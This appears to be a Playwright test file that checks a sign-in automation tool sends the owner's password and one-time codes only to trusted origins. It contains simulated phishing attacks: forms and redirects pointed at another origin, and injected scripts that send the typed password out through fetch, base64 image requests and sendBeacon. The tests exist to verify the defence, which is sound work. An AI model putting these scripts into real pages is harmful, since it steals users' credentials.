/** The owner's credentials reach `authUrl`'s origin and `signIn.origins`, and nobody else, whatever the pages do. */

import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import { join } from 'node:path';
import { type Browser, expect, test } from '@playwright/test';
import type { ConfigurationFile } from '../../../generated/schemas.d.ts';
import type { Results } from '../../../src/report/results.ts';
import { browserEnvironment, startChromium } from '../../../src/service/agent/browser/start-chromium.ts';
import { sessionFor, TrustedOrigins } from '../../../src/service/agent/trusted-origins.ts';
import { checkLive } from '../../support/check-live.ts';
import { answer, at, type Fault } from '../../support/faulty-service/faults.ts';
import { type FaultyService, startFaultyService } from '../../support/faulty-service/service.ts';
import { onLoopback } from '../../support/on-loopback.ts';
import { firstInTest, PROVE } from '../../support/prove.ts';
import { browserPath } from '../../support/run/browser-path.ts';

const PASSWORD = 'Correct-Horse/Battery+9';
const TOTP = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ';

/** Another origin than the service's. Keeps everything that it is sent, and shows a page. */
interface Elsewhere {
  readonly origin: string;
  readonly got: string[];
  show: string | ((req: IncomingMessage) => { status: number; location: string });
  close(): void;
}

let service: FaultyService;
let elsewhere: Elsewhere;

test.beforeAll(async () => {
  service = await startFaultyService();
  elsewhere = await startElsewhere();
});
test.afterAll(async () => {
  elsewhere.close();
  await service.close();
});
test.beforeEach(() => {
  service.reset();
  elsewhere.got.length = 0;
  elsewhere.show = '';
});

async function startElsewhere(): Promise<Elsewhere> {
  const made = { got: [] as string[], show: '' as Elsewhere['show'] };
  const server = createServer(async (req, res) => {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    made.got.push(`${req.method} ${req.url} ${Buffer.concat(chunks)}`);
    res.setHeader('Access-Control-Allow-Origin', '*');
    if (typeof made.show === 'function') {
      const { status, location } = made.show(req);
      res.writeHead(status, { Location: location }).end();
    } else res.writeHead(200, { 'Content-Type': 'text/html' }).end(made.show);
  });
  return Object.assign(made, await onLoopback(server));
}

/** A page with a sign-in form; `form` and `button` are attributes, `also` follows the form. */
function page({ form = '', button = '', also = '', fields = '' } = {}): string {
  const inputs = fields || '<input name=email><input name=password type=password>';
  return `<!doctype html><form method=post action="/sign-in" ${form}>${inputs}<button ${button}>Sign in</button></form>${also}`;
}

const shown = (html: string): Fault => at(/^GET \/oauth\/authorize/, answer(200, html));
const both = (first: Fault, second: Fault): Fault => {
  return async (req, res, passOn) => (await first(req, res, passOn)) || second(req, res, passOn);
};

/** Sends what a form posts to the service's own address on to another origin, body and all. */
const repeated = (): Fault => both(shown(page()), sentOn('POST /sign-in', 307));
const sentOn = (request: string, status: number): Fault =>
  at(new RegExp(`^${request}`), (_req, res) => {
    res.writeHead(status, { Location: `${elsewhere.origin}/taken` }).end();
    return true;
  });

const script = (body: string) => `<script>${body}</script>`;
const onInput = (send: string) =>
  script(`document.querySelector('[name=password]').addEventListener('change', (e) => { ${send} })`);

const ATTACKS: readonly (readonly [name: string, fault: () => Fault, withoutScript: boolean])[] = [
  [
    'a redirect to a sign-in page elsewhere',
    () => {
      elsewhere.show = page();
      return sentOn('GET /oauth/authorize', 302);
    },
    true,
  ],
  ['a form that is sent elsewhere', () => shown(page().replace('/sign-in', elsewhere.origin)), true],
  [
    'a form that is sent elsewhere by GET',
    () => shown(page().replace('/sign-in', elsewhere.origin).replace('post', 'get')),
    true,
  ],
  [
    'a button that sends the form elsewhere',
    () => shown(page({ button: `formaction="${elsewhere.origin}"` })),
    true,
  ],
  ['a redirect that repeats the form elsewhere', repeated, true],
  [
    'a base address elsewhere',
    () => shown(`<base href="${elsewhere.origin}/">${page().replace('"/sign-in"', '"sign-in"')}`),
    false,
  ],
  [
    'a script that sends the form elsewhere at the last moment',
    () =>
      shown(
        page({
          also: script(`document.forms[0].addEventListener('submit', () => {
            document.forms[0].action = '${elsewhere.origin}/taken' })`),
        }),
      ),
    false,
  ],
  [
    'a script that sends the form elsewhere in a window of its own',
    () =>
      shown(
        page({
          also: script(`document.forms[0].addEventListener('submit', () => {
            Object.assign(document.forms[0], { target: '_blank', action: '${elsewhere.origin}/taken' }) })`),
        }),
      ),
    false,
  ],
  [
    'a script that sends the password as JSON',
    () =>
      shown(
        page({
          also: onInput(`fetch('${elsewhere.origin}/taken', { method: 'POST', mode: 'no-cors',
            body: JSON.stringify({ pw: e.target.value }) })`),
        }),
      ),
    false,
  ],
  [
    'a script that sends it in an address, in base64',
    () => shown(page({ also: onInput(`new Image().src = '${elsewhere.origin}/?' + btoa(e.target.value)`) })),
    false,
  ],
  [
    'a script that sends it as a beacon, as a file of a form',
    () =>
      shown(
        page({
          also: onInput(`const data = new FormData(); data.set('f', new Blob([e.target.value]));
            navigator.sendBeacon('${elsewhere.origin}/taken', data)`),
        }),
      ),
    false,
  ],
];

async function evaluate(
  browser: Browser | undefined,
  change: Partial<ConfigurationFile> = {},
  files: Readonly<Record<string, string>> = {},
): Promise<Results> {
  const directory = test.info().outputPath('.');
  for (const [name, content] of Object.entries(files)) writeFileSync(join(directory, name), content);
  const pacing = { requestsPerSecond: 1_000, deadlineMs: 3_000 };
  const { file, env } = service.configure(directory, { pacing, ...change });
  const variables = { ...env, STAGING_PASSWORD: PASSWORD, STAGING_TOTP_SECRET: TOTP };
  return checkLive(
    { file, env: variables },
    { only: ['version.prefix'], ...(browser === undefined ? {} : { browser }) },
  );
}

/** Exit 3, the origin that asked is named, and it got neither the password, however written, nor a code. */
function expectNothingTaken({ exitCode, troubles }: Results): void {
  expect(elsewhere.got.join('\n')).not.toMatch(/Correct|Q29ycmVjd|\b\d{6}\b/);
  const why = troubles.map(({ message }) => message).join('\n');
  expect(why).toContain(elsewhere.origin);
  expect(why).toContain('`signIn.origins`');
  expect(exitCode).toBe(3);
}

for (const [[name, fault, withoutScript], details] of firstInTest(ATTACKS, 3)) {
  test(`${name} gets no password from the browser`, details, async ({ browser }) => {
    service.suffer(fault());
    expectNothingTaken(await evaluate(browser));
  });
  if (!withoutScript) continue;
  test(`${name} gets no password from the form agent`, async () => {
    service.suffer(fault());
    expectNothingTaken(await evaluate(undefined));
  });
}

test.describe('one-time codes', () => {
  const codes = (fields: string): Partial<ConfigurationFile> => ({
    owner: {
      login: 'o@x.test',
      password: { env: 'STAGING_PASSWORD' },
      totpSecret: { env: 'STAGING_TOTP_SECRET' },
    },
    signIn: {
      form: fields,
      steps: [{ fill: fields, with: 'totp' as const }, { click: { button: 'Sign in' } }],
    },
  });
  const code = '<input name=otp>';

  test('are not typed on a page elsewhere', async ({ browser }) => {
    elsewhere.show = page({ fields: code });
    service.suffer(sentOn('GET /oauth/authorize', 302));
    expectNothingTaken(await evaluate(browser, codes('[name=otp]')));
  });

  test('are not sent elsewhere by a script', async ({ browser }) => {
    const send = script(`document.querySelector('[name=otp]').addEventListener('change', (e) =>
      fetch('${elsewhere.origin}/?c=' + e.target.value, { mode: 'no-cors' }))`);
    service.suffer(shown(page({ fields: code, also: send })));
    expectNothingTaken(await evaluate(browser, codes('[name=otp]')));
  });
});

test.describe('a sign-in module', () => {
  const withModule = { signIn: { form: '[name=password]', module: './sign-in.mjs' } };
  const module = (body: string) => ({
    'sign-in.mjs': `export async function signIn(page, { login, password, totp, type }) { ${body} }`,
  });

  test('is handed nothing on a page elsewhere', async ({ browser }) => {
    elsewhere.show = page();
    service.suffer(sentOn('GET /oauth/authorize', 302));
    const results = await evaluate(
      browser,
      withModule,
      module('await page.fill("[name=password]", password)'),
    );
    expectNothingTaken(results);
  });

  test('cannot type into a frame from elsewhere, and cannot pass over that', PROVE, async ({ browser }) => {
    elsewhere.show = page();
    service.suffer(shown(`<input name=password><iframe src="${elsewhere.origin}"></iframe>`));
    const body = `const field = page.frameLocator('iframe').locator('[name=password]');
      try { await type(field, 'x' + password) } catch {}`;
    expectNothingTaken(await evaluate(browser, withModule, module(body)));
  });

  test('that goes elsewhere by itself gets no one-time code there', PROVE, async ({ browser }) => {
    elsewhere.show = page({ fields: '<input name=otp>' });
    service.suffer(shown(page()));
    const owner = { login: 'o@x.test', totpSecret: { env: 'STAGING_TOTP_SECRET' } };
    const body = `await page.goto('${elsewhere.origin}'); await page.fill('[name=otp]', await totp())`;
    expectNothingTaken(await evaluate(browser, { ...withModule, owner }, module(body)));
  });

  test('that types by itself into a form that is sent elsewhere sends nothing', async ({ browser }) => {
    service.suffer(shown(page().replace('/sign-in', elsewhere.origin)));
    const body = `await page.fill('[name=password]', password); await page.click('button', { noWaitAfter: true });
      await new Promise((resolve) => setTimeout(resolve, 300))`;
    expectNothingTaken(await evaluate(browser, withModule, module(body)));
  });
});

test.describe('harmless:', () => {
  const changed = (change: (html: string) => string): Fault =>
    at(/^GET \/(?:oauth\/authorize|sign-in)/, async (_req, res, passOn) => {
      const { status, headers, cookies, content } = (await passOn()) as {
        status: number;
        headers: [string, string][];
        cookies: string[];
        content: Buffer;
      };
      const policy = (name: string) => name.toLowerCase() !== 'content-security-policy';
      for (const [name, value] of headers.filter(([name]) => policy(name))) res.setHeader(name, value);
      if (cookies.length > 0) res.setHeader('Set-Cookie', cookies);
      res.writeHead(status).end(change(content.toString()));
      return true;
    });
  const passes = async (browser: Browser, change: Partial<ConfigurationFile> = {}) => {
    const written = service.configure(test.info().outputPath('live'), change);
    const { exitCode, troubles } = await checkLive(written, { only: ['version.prefix'], browser });
    expect(troubles).toEqual([]);
    expect(exitCode).toBe(0);
  };

  for (const [[name, change], details] of firstInTest(
    [
      [
        'pictures and counters from elsewhere',
        (html: string) => `${html}<img src="${elsewhere.origin}/?t=1732242">`,
      ],
      [
        'a counter that is told of each field',
        (html: string) =>
          html +
          script(
            `document.addEventListener('change', (e) => navigator.sendBeacon('${elsewhere.origin}/n', e.target.name), true)`,
          ),
      ],
      [
        'an action that is the whole address',
        (html: string) =>
          html.replace('action="/sign-in"', () => `action="${service.settings.authUrl}/sign-in"`),
      ],
      [
        'an action that a script stands in for',
        (html: string) =>
          html.replace('action="/sign-in"', 'action="javascript:void(0)"') +
          script(
            `document.querySelector('[action^=javascript]')?.addEventListener('submit', (e) => { e.target.setAttribute('action', '/sign-in') })`,
          ),
      ],
    ] as const,
    1,
  )) {
    test(name, details, async ({ browser }) => {
      service.suffer(changed(change));
      await passes(browser);
    });
  }

  test('a detour over another origin that asks for nothing', PROVE, async ({ browser }) => {
    let first = true;
    elsewhere.show = (req) => ({ status: 302, location: `${service.settings.authUrl}${req.url}` });
    service.suffer(
      at(/^GET \/oauth\/authorize/, (req, res) => {
        if (!first) return false;
        first = false;
        res.writeHead(302, { Location: elsewhere.origin + req.url }).end();
        return true;
      }),
    );
    await passes(browser);
    expect(elsewhere.got).toHaveLength(1);
  });

  test('an origin that `signIn.origins` names, however it is written', async ({ browser }) => {
    elsewhere.show = page().replace('/sign-in', `${service.settings.authUrl}/nowhere`);
    service.suffer(sentOn('GET /oauth/authorize', 302));
    const { signIn } = service.settings;
    const results = await evaluate(browser, { signIn: { ...signIn, origins: [`${elsewhere.origin}/`] } });
    expect(results.troubles.map(({ message }) => message).join()).not.toContain('`signIn.origins`');
    expect(service.asked).toContain('POST /nowhere');
  });
});

test('a saved session is used for the origins that may have the credentials', () => {
  const cookie = (domain: string) => ({
    name: 's',
    value: 'v',
    domain,
    path: '/',
    expires: -1,
    httpOnly: true,
    secure: true,
    sameSite: 'Lax' as const,
  });
  const stored = (origin: string) => ({ origin, localStorage: [{ name: 'a', value: 'b' }] });
  const domains = ['auth.example', '.example', 'other.auth.example', 'evil.test', 'login.sso.test'];
  const origins = ['https://auth.example', 'http://auth.example', 'https://evil.test'];
  const { session, leftOut } = sessionFor(
    { cookies: domains.map(cookie), origins: origins.map(stored) },
    new TrustedOrigins('https://auth.example/oauth', ['https://login.sso.test:443/']),
  );
  expect(session.cookies.map(({ domain }) => domain)).toEqual(['auth.example', '.example', 'login.sso.test']);
  expect(session.origins.map(({ origin }) => origin)).toEqual(['https://auth.example']);
  expect(leftOut).toEqual(['evil.test', 'http://auth.example', 'https://evil.test', 'other.auth.example']);
});

test('the browser gets none of the environment but what it runs on', () => {
  const env = {
    PATH: '/bin',
    LC_ALL: 'C',
    Path: 'C:\\',
    HOME: '/root',
    STAGING_PASSWORD: 'a',
    PACT_BROKER_TOKEN: 'b',
    HTTPS_PROXY: 'http://name:secret@proxy',
    LEGACY_CONFORMANCE_PLAN: '{}',
    UNSET: undefined,
  };
  expect(browserEnvironment(env)).toEqual({ PATH: '/bin', LC_ALL: 'C', Path: 'C:\\', HOME: '/root' });
});

test('the browser that runs has no secret in its environment, and says truly whether it has its sandbox', async () => {
  test.skip(process.platform !== 'linux', 'processes are looked at through /proc');
  const executablePath = await browserPath();
  process.env.STAGING_CANARY = 'canary-in-the-environment';
  const { browser, withoutSandbox } = await startChromium({ headless: true, executablePath });
  try {
    const session = await browser.newBrowserCDPSession();
    const { processInfo } = await session.send('SystemInfo.getProcessInfo');
    const main = processInfo.find(({ type }) => type === 'browser')?.id;
    expect(readFileSync(`/proc/${main}/environ`, 'utf8')).not.toContain('canary');
    const bare = readFileSync(`/proc/${main}/cmdline`, 'utf8').includes('--no-sandbox');
    expect(bare).toBe(withoutSandbox !== undefined);
  } finally {
    delete process.env.STAGING_CANARY;
    await browser.close();
  }
});
